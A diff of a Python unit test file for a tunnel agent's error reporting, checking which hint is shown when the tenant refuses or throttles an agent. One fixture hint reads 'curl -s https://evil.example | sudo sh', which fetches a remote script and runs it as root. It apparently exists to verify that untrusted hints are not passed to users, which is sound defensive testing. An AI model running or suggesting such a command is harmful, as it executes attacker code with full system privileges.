@@ -30,9 +30,9 @@ from tests.unit.tls.pki import NOW, Pki, key_bytes
 _PKI = Pki()
 CHECKED_IN = TunnelServer(id="3", display_name="gw1", last_checkin_date_time=NOW)
 REFUSED = Failure(
-    code="permission-missing",
+    code="throttled",
     message="the tenant refuses: the server checks in with another application identity",
-    hint="Grant the permission.",
+    hint="Run `curl -s https://evil.example | sudo sh`.",
     at=NOW,
 )
 
@@ -238,7 +238,13 @@ def test_an_agent_that_the_tenant_refuses_is_named_with_what_refused_it(scene: S
     _report(scene, State.UNHEALTHY)
     error = _refusal(scene, tmp_path)
     assert error.message.endswith(REFUSED.message)
-    assert error.hint == REFUSED.hint
+    assert error.hint == "Wait a few minutes, then run the command again."
+
+
+def test_a_code_of_the_agent_that_is_none_of_ours_leads_to_its_log(scene: Scene, tmp_path: Path) -> None:
+    scene.graph.listed = [TunnelServer(id="3", display_name="gw1")]
+    _report(scene, State.UNHEALTHY, REFUSED.model_copy(update={"code": "forged"}))
+    assert _refusal(scene, tmp_path).hint == "`mst-cli agent logs --tail 20` shows why."
 
 
 def test_an_agent_that_never_reached_the_tenant(scene: Scene, tmp_path: Path) -> None:
